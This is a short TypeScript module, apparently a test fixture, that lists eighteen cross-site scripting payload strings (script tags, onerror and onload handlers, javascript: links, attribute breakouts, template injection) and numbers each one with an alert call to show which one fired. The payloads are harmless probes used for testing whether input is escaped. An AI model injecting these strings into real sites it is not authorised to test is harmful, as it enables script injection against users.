/** Short markup and addresses that run a script unless they are treated as text. `ALERT` calls the hook. */
const TEMPLATES = [
	'<img src=x onerror=ALERT>',
	'<svg/onload=ALERT>',
	'<script>ALERT</script>',
	'"><img src=x onerror=ALERT>',
	"'><svg onload=ALERT>",
	'</title><script>ALERT</script>',
	'</textarea><img src=x onerror=ALERT>',
	'<iframe srcdoc="<script>ALERT</script>">',
	'<a href="javascript:ALERT">x</a>',
	'javascript:ALERT',
	'[x](javascript:ALERT)',
	'{{constructor.constructor("ALERT")()}}',
	'${ALERT}',
	'<math><mtext><img src=x onerror=ALERT>',
	'<details open ontoggle=ALERT>',
	'<body onpageshow=ALERT>',
	'" autofocus onfocus=ALERT x="',
	'https://x/"onmouseover="ALERT',
] as const;

/** A payload that names itself when it runs. */
export interface Payload {
	index: number;
	text: string;
}

export const payloads: readonly Payload[] = TEMPLATES.map((template, index) => ({
	index,
	text: template.replace('ALERT', `alert(${index})`),
}));
